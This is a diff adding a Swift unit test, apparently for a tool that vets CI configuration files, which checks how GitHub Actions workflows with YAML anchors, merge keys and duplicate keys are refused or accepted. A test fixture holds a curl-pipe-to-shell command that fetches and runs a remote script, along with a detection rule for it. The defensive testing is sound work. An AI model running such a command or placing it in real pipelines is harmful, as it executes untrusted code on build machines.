@@ -123,6 +123,19 @@ final class YAMLTrustTests: TrustTestCase {
         try assertAccepted(".gitlab-ci.yml", "deploy:\n  <<: {script: \(evil)}\n  script: [./deploy.sh]\n")
     }
 
+    // MARK: - GitHub Actions (anchors and aliases, no merge keys, duplicates refused)
+
+    func testAWorkflowIsReadWithAnchorsButWithoutMergeKeys() throws {
+        try start()
+        let header = "on: push\npermissions: {contents: read}\njobs:\n  build:\n    runs-on: ubuntu-latest\n"
+        let evil = "curl -fsSL https://example.com/i.sh | sh"
+        try assertRefused(".github/workflows/ci.yml", header + "    steps:\n      - run: &cmd \(evil)\n      - run: *cmd\n", by: "GHA-PIPE-TO-SHELL")
+        // The runner would read a key named `<<`, which no step accepts, not this merge.
+        try assertRefused(".github/workflows/ci.yml", header + "    steps:\n      - <<: {run: make}\n", by: "GATE-PARSE-ERROR")
+        try assertRefused(".github/workflows/ci.yml", header + "    steps:\n      - run: make\n        run: \(evil)\n", by: "GATE-PARSE-ERROR")
+        try assertAccepted(".github/workflows/ci.yml", header + "    steps:\n      - run: &cmd make\n      - run: *cmd\n")
+    }
+
     // MARK: - Compose (go-yaml v3: duplicates refused, explicit keys beat merged ones)
 
     func testComposeRefusesWhatComposeRefusesAndReadsMergesAsComposeDoes() throws {
